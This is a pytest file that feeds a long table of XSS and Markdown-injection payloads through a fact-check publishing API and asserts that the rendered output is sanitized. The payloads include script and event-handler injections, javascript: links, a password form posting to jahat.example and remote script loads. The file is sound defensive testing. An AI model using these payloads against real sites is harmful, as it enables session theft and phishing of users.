"""Hostile Markdown, the whole way from a draft to what anybody reads: a table of what was tried before."""

from html.parser import HTMLParser
from itertools import islice
from typing import Any
from urllib.parse import urlsplit

import pytest

from api.clarifications.translation_schemas import MOST
from tests.clarifications.bodies import LIST, body, published
from tests.world import World

SHARED = "/v1/shared/clarifications"
PUBLIC = "/v1/public/clarifications"
LANGUAGES = ("su", "jv", "en", "ban", "mad", "ar", "ms", "zh", "bew", "nl")
TAGS = {
    *("p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote", "code", "pre", "hr"),
    *("h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
PAYLOADS = [
    # Elements that run, load or cover something.
    "<script>alert(1)</script>",
    "<ScRiPt src=https://jahat.example/x.js></sCrIpT>",
    "<script\x20type=text/javascript>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '"><script>alert(1)</script>',
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror\n=alert(1)>',
    "<IMG SRC=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="9">x</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="//jahat.example/x.swf">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="https://jahat.example"><input name=password><button>Masuk</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://jahat.example/">',
    '<link rel="stylesheet" href="https://jahat.example/x.css">',
    "<style>@import 'https://jahat.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="position:fixed;inset:0;background:url(https://jahat.example/x)">x</div>',
    '<p style="width:expression(alert(1))" onclick=alert(1) id=x class=y>x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://aman.example" onmouseover="alert(1)" style="x" target="_blank">x</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    # Comments and the like.
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    # Entities.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Markdown's own links, images, tables and code.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://jahat.example/1)",
    "[x](//jahat.example/)",
    "[x](/oauth/authorize?client_id=x)",
    "[x](https:jahat.example)",
    "[x](https://simpul.example@jahat.example/)",
    "[x](https://simpul.example\\@jahat.example/)",
    '[x](https://aman.example "onmouseover=alert(1) \\"><script>")',
    '[x](https://aman.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[<img src=x onerror=alert(1)>](https://aman.example)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<https://aman.example/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](https://jahat.example/pelacak.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x "onerror=alert(1)")',
    "![](x){onerror=alert(1)}",
    "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "> <script>\n> alert(1)\n> </script>",
    "- <svg\n  onload=alert(1)>",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "x\n<script>\nalert(1)\n</script>\nx",
    # Directions and other characters that Markdown has names for.
    "a&#x202e;b&#8238;c&#x2066;d",
    "a&#0;b&#1;c&#x80;d&#x9f;e",
]  # fmt: skip
_UNPRINTABLE = {
    *map(chr, range(9)),
    *map(chr, range(0x7F, 0xA0)),
    *"\u202a\u202b\u202c\u202d\u202e",
}


class Seen(HTMLParser):
    """Every tag of a text with its attributes, and whatever else a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def check(html: str) -> None:
    """Nothing in it runs, loads, or leads where it does not say."""
    seen = Seen(html)
    assert not seen.others, html
    for tag, attributes in seen.tags:
        assert tag in TAGS, html
        assert set(attributes) <= ({"href", "title", "rel"} if tag == "a" else set()), html
        if tag == "a":
            assert attributes["rel"] == "nofollow noopener noreferrer", html
        if "href" in attributes:
            address = urlsplit(attributes["href"] or "")
            assert address.scheme in {"http", "https"}, html
            assert address.hostname == "aman.example", html
    assert not _UNPRINTABLE & set(html), html


def _one_line(payload: str) -> str:
    return " ".join(payload.split())


def _batches() -> list[list[str]]:
    rest = iter(PAYLOADS)
    return list(iter(lambda: list(islice(rest, MOST + 1)), []))


def _request(batch: list[str]) -> dict[str, Any]:
    """Each payload as the body, the claim and, on one line, the title of a language of its own."""
    texts = [
        # Words of ours, for a body must have some.
        {"title": _one_line(p)[:300], "claim_reviewed": p, "body": f"Awal.\n\n{p}\n\nAkhir."}
        for p in batch
    ]
    main, *others = texts
    return {
        **main,
        "translations": [
            {**text, "language": language}
            for language, text in zip(LANGUAGES, others, strict=False)
        ],
        "sources": [
            dict.fromkeys(("title", "publisher", "official"), _one_line(payload))
            for payload in batch
        ],
    }


def test_there_is_a_table() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("number", range(len(_batches())))
async def test_hostile_texts_do_nothing_and_stay_to_be_read(world: World, number: int) -> None:
    sent = _request(_batches()[number])
    row = await published(world, **sent)
    viewer = await world.caller("32.73", "viewer")
    anonymous = await world.api.get(f"{PUBLIC}/{row['slug']}")
    assert anonymous.headers["content-type"] == "application/json"
    assert anonymous.headers["x-content-type-options"] == "nosniff"
    for found in (anonymous.json(), (await viewer.get(f"{SHARED}/{row['number']}")).json()):
        texts = [sent, *sent["translations"]]
        for text, shown in zip(texts, [found, *found["translations"]], strict=True):
            check(shown["body_html"])
            assert shown["body_text"].startswith("Awal.")
            assert shown["body_text"].endswith("Akhir.")
            assert not _UNPRINTABLE & set(shown["body_text"] + shown["summary"])
            # These are plain texts: shown as they are, and JSON alone.
            assert (shown["title"], shown["claim_reviewed"]) == (
                text["title"],
                text["claim_reviewed"].strip(),
            )
        for source, shown in zip(sent["sources"], found["sources"], strict=True):
            assert {name: shown[name] for name in source} == source


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("body", "a\u202eb"),
        ("title", "a\u202eb"),
        ("title", "a\u2066b"),
        ("claim_reviewed", "a\u202db"),
        ("title", "a\nb"),
        ("title", "a\u2028b"),
        ("body", "a\x00b"),
    ],
    ids=["body", "title", "isolate", "claim", "line", "separator", "nul"],
)
@pytest.mark.parametrize("where", ["main", "translation"])
async def test_what_turns_a_text_around_is_refused(
    world: World, where: str, field: str, value: str
) -> None:
    operator = await world.caller("32.04", "operator")
    text = {"title": "Judul", "claim_reviewed": "Isu", "body": "Isi", field: value}
    sent = body(**text) if where == "main" else body(translations=[{**text, "language": "su"}])
    answer = await operator.post(LIST, sent)
    assert answer.status_code == 422
    prefix = "" if where == "main" else "/translations/0"
    errors = answer.json()["errors"]
    assert [error["pointer"] for error in errors] == [f"{prefix}/{field}"]
    assert errors[0]["code"] in {"control-character", "line-break"}


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("Ban\u200btuan \u200ctunai", "Bantuan tunai"),
        ("\ufeffBantuan\u00ad tunai\u200e", "Bantuan tunai"),
        ("Bantuan\u2060\u2064 \u3164tunai\U000e0041", "Bantuan tunai"),
        ("Bantuan\u200d tunai \u2800", "Bantuan tunai"),
        (
            "Keluarga \U0001f468\u200d\U0001f469\u200d\U0001f467 sehat",
            "Keluarga \U0001f468\u200d\U0001f469\u200d\U0001f467 sehat",
        ),
        ("\ua9b2\ua9c0\u200d\ua9b1", "\ua9b2\ua9c0\u200d\ua9b1"),
        ("\u2764\ufe0f\u200d\U0001f525 panas", "\u2764\ufe0f\u200d\U0001f525 panas"),
    ],
    ids=["zero-width", "marks", "fillers", "joiner", "emoji", "javanese", "heart"],
)
async def test_what_nobody_sees_in_a_title_is_taken_away(
    world: World, title: str, shown: str
) -> None:
    operator = await world.caller("32.04", "operator")
    source = {"title": title, "official": title}
    translation = {"language": "su", "title": title, "claim_reviewed": "x"}
    answer = await operator.post(
        LIST, body(title=title, sources=[source], translations=[translation])
    )
    row = answer.json()
    assert row["title"] == row["sources"][0]["title"] == row["sources"][0]["official"] == shown
    assert row["translations"][0]["title"] == shown


@pytest.mark.parametrize("title", ["\u200b", "\u3164\u2800", " \u00ad\u2060 "])
async def test_a_title_that_nobody_sees_is_none(world: World, title: str) -> None:
    operator = await world.caller("32.04", "operator")
    errors = (await operator.post(LIST, body(title=title))).json()["errors"]
    assert [(e["pointer"], e["code"]) for e in errors] == [("/title", "string-too-short")]
